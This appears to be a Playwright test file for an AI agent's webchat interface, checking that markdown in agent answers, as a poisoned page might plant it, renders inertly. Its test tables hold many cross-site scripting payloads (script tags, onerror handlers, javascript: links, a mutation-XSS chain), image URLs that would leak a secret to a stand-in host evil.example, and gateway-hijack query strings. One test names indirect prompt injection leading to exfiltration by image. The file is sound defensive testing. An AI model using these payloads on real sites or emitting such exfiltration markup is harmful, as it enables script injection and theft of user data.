import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { startHost } from '../../support/host.ts'
import type { TestHost } from '../../support/host.ts'
import { builtPage, launchBrowser, openTab } from './browser.ts'
import type { BuiltPage, Tab } from './browser.ts'

const key = 'sesame-0123456789'
let browser: Browser
let built: BuiltPage
let open: TestHost
let locked: TestHost
let victim: Tab
beforeAll(async () => {
  ;[browser, built] = await Promise.all([launchBrowser(), builtPage()])
  const plugins = { webchat: { page_dir: built.folder } }
  ;[open, locked] = await Promise.all([
    startHost({ config: { plugins } }),
    startHost({ config: { api_key: key, plugins } }),
  ])
  victim = await openTab(browser, open.url, {
    before: async (page) => {
      await page.addInitScript(() => {
        Object.assign(window, { hit: 0 })
      })
    },
  })
  await victim.page.getByText('Connected', { exact: true }).waitFor()
})
afterAll(async () => {
  await browser?.close()
  await Promise.all([open?.[Symbol.asyncDispose](), locked?.[Symbol.asyncDispose]()])
})

/**
 * Makes the agent say something, as a poisoned page it read would. One tab for all: each answer must leave it whole for
 * the next.
 */
async function answered(
  markdown: string,
  check: (tab: Tab, answer: ReturnType<Page['locator']>) => Promise<void>,
): Promise<void> {
  const seen = victim.complaints.length
  await victim.say(`echo ${markdown}`)
  const answer = victim.page.locator('.answer').last().locator('.prose')
  await check(victim, answer)
  expect(await victim.page.evaluate('window.hit')).toBe(0)
  expect(
    await answer
      .locator('script, iframe, object, embed, style, form, svg, math, base, meta, link, template, video, audio')
      .count(),
  ).toBe(0)
  expect(victim.complaints.slice(seen)).toEqual([])
}

test.each([
  '<script>window.hit++</script>',
  '<img src=x onerror="window.hit++">',
  '<svg onload="window.hit++"><a xlink:href="javascript:window.hit++">x</a></svg>',
  '<iframe srcdoc="<script>parent.hit++</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit++&gt;">',
  '<b onmouseover="window.hit++" style="position:fixed;inset:0">hover</b>',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '`<img src=x onerror=window.hit++>`',
  '```"><img src=x onerror=window.hit++>\n<img src=x onerror=window.hit++>\n```',
  '| a |\n|---|\n| <img src=x onerror=window.hit++> |',
  '<a href="javascript:window.hit++" id="message-box">x</a>',
  '&lt;script&gt;window.hit++&lt;/script&gt;',
])('markup in an answer stays text: %s', async (markdown) => {
  await answered(markdown, async (tab, answer) => {
    expect(await answer.locator('[onerror], [onload], [onmouseover], [style], [id], [src]').count()).toBe(0)
    expect(await tab.page.locator('#message-box').count()).toBe(1)
  })
})

test.each([
  '[x](javascript:window.hit++)',
  '[x](JaVaScRiPt:window.hit++)',
  '[x](java\tscript:window.hit++)',
  '[x](&#106;avascript:window.hit++)',
  '<javascript:window.hit++>',
  '[x](data:text/html,<script>parent.hit++</script>)',
  '[x](vbscript:x)',
  '[x](//evil.example/x)',
  '[x](/api/shutdown)',
  '[a]\n\n[a]: javascript:window.hit++',
])('a link that is no web address is no link: %s', async (markdown) => {
  await answered(markdown, async (_tab, answer) => {
    expect(await answer.locator('a').count()).toBe(0)
  })
})

test('a web link opens apart from the page, and tells the other side nothing about it', async () => {
  await answered('[docs](https://example.com/a?b=c)', async (_tab, answer) => {
    const link = answer.locator('a')
    expect(await link.getAttribute('href')).toBe('https://example.com/a?b=c')
    expect(await link.getAttribute('target')).toBe('_blank')
    expect(await link.getAttribute('rel')).toContain('noopener')
    expect(await link.getAttribute('rel')).toContain('noreferrer')
  })
})

test.each([
  '![x](https://evil.example/log?secret=1)',
  '![x](http://127.0.0.1:9/log)',
  '[![x](https://evil.example/log)](https://evil.example)',
  '![x][r]\n\n[r]: https://evil.example/log',
  '<img src="https://evil.example/log">',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x](//evil.example/log)',
])('an image from elsewhere is not loaded: %s', async (markdown) => {
  await answered(markdown, async (_tab, answer) => {
    expect(await answer.locator('img').count()).toBe(0)
  })
})

test('Indirect injection -> exfil by image: a remote image is named with its host, so that the reader may decide', async () => {
  await answered('![chart](https://evil.example/log?secret=1)', async (_tab, answer) => {
    expect(await answer.locator('a').innerText()).toBe('Image: chart (evil.example, not loaded)')
  })
})

test('an embedded picture is shown', async () => {
  await answered(
    '![dot](data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==)',
    async (_tab, answer) => {
      expect(await answer.locator('img').getAttribute('alt')).toBe('dot')
    },
  )
})

test('what a person writes is shown as written', async () => {
  await using tab = await openTab(browser, open.url)
  await tab.say('<img src=x onerror=alert(1)> **not bold**')
  expect(await tab.page.locator('.bubble').last().innerText()).toBe('<img src=x onerror=alert(1)> **not bold**')
  expect(await tab.page.locator('.bubble *').count()).toBe(0)
  expect(tab.complaints).toEqual([])
})

test('Gateway URL from query string: an address of another daemon in the URL is not followed', async () => {
  await using tab = await openTab(browser, open.url, {
    path: '/?gatewayUrl=ws://evil.example&url=https://evil.example&server=//evil.example&token=x#https://evil.example',
  })
  await tab.page.getByText('Connected', { exact: true }).waitFor()
  expect(await tab.say('echo still here')).toContain('still here')
  expect(tab.complaints).toEqual([])
})

test('a locked daemon asks for its key, refuses a wrong one, and takes the right one for the socket too', async () => {
  const sockets: string[] = []
  const urls: string[] = []
  await using tab = await openTab(browser, locked.url, {
    before: async (page) => {
      page.on('websocket', (socket) => {
        sockets.push(socket.url())
      })
      page.on('request', (request) => {
        urls.push(request.url())
      })
    },
  })
  const field = tab.page.getByLabel('API key')
  await field.waitFor()
  expect(await field.getAttribute('type')).toBe('password')
  await expect.poll(() => field.evaluate((element) => element === document.activeElement)).toBe(true)
  await field.fill('wrong')
  await tab.page.keyboard.press('Enter')
  await tab.page.getByRole('alert').filter({ hasText: 'refused' }).waitFor()
  await tab.page.getByLabel('API key').fill(key)
  await tab.page.keyboard.press('Enter')
  await tab.page.getByText('Connected', { exact: true }).waitFor()
  expect(await tab.say('echo unlocked')).toContain('unlocked')
  expect(sockets).toHaveLength(1)
  expect([...sockets, ...urls].filter((url) => url.includes(key) || url.includes('wrong'))).toEqual([])
  expect(tab.complaints.filter((text) => !text.includes('401'))).toEqual([])
})
